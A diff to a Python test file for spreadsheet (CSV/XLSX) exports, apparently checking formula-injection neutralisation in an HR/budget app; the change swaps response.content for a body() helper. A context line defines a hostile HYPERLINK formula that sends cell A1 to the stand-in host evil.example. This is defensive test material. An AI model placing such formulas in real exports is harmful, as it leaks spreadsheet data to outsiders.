@@ -13,6 +13,7 @@ from budgets.models import Budget
 from budgets.services import budget_allocate
 from people.exports import FORMULA_STARTS, neutralise
 from people.models import Department, Employee, JobGroup
+from tests.exports import body
 
 ROOT = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -48,12 +49,12 @@ def hostile_org(personas, org, policy, time_machine):
 
 
 def _csv_cells(response) -> list[str]:
-    text = response.content.decode("utf-8-sig")
+    text = body(response).decode("utf-8-sig")
     return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
 
 
 def _xlsx_cells(response) -> list:
-    sheet = load_workbook(io.BytesIO(response.content)).active
+    sheet = load_workbook(io.BytesIO(body(response))).active
     return [cell for row in sheet.iter_rows() for cell in row]
 
 
